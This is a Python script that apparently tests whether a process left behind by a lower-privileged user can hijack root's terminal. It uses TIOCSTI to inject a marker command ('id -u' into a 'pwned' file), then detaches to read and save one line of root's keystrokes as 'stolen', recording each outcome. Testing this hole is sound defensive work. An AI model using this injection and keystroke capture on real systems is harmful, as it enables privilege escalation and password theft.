#!/usr/bin/python3
import errno, fcntl, os, select, signal, sys, termios, time
out = sys.argv[1]
def record(tag, result):
    with open("%s/%s" % (out, tag), "w") as f:
        f.write(result)
def inject(tag):
    try:
        for b in ("id -u > %s/pwned-%s\n" % (out, tag)).encode():
            fcntl.ioctl(0, termios.TIOCSTI, bytes([b]))
        record(tag, "injected")
    except OSError as e:
        record(tag, errno.errorcode.get(e.errno, str(e.errno)))
def wait_for(tag):
    # Root's shell writes the file; 20 s bounds the wait if it never does.
    end = time.time() + 20
    while not os.path.exists("%s/%s" % (out, tag)) and time.time() < end:
        time.sleep(0.02)
# An attacker's child ignores the hangup its terminal gets when the program exits (set before
# the fork, so the child has it from its first instruction).
signal.signal(signal.SIGHUP, signal.SIG_IGN)
if os.fork() == 0:
    # Once root's shell is back at its prompt, try again.
    wait_for("back")
    inject("after")
    # Once root's shell runs its next command, which reads nothing until read-done, leave the
    # session (so job control no longer stops its reads) and read what root types meanwhile:
    # one line, or until the terminal answers EOF or an error.
    wait_for("busy")
    try:
        os.setsid()
    except OSError:
        pass
    got = b""
    end = time.time() + 20
    while b"\n" not in got and time.time() < end:
        try:
            if select.select([0], [], [], 0.2)[0]:
                data = os.read(0, 4096)
                if not data:
                    break
                got += data
        except OSError:
            break
    if got:
        record("stolen", got.decode(errors="replace"))
    record("read-done", "1")
    os._exit(0)
inject("during")
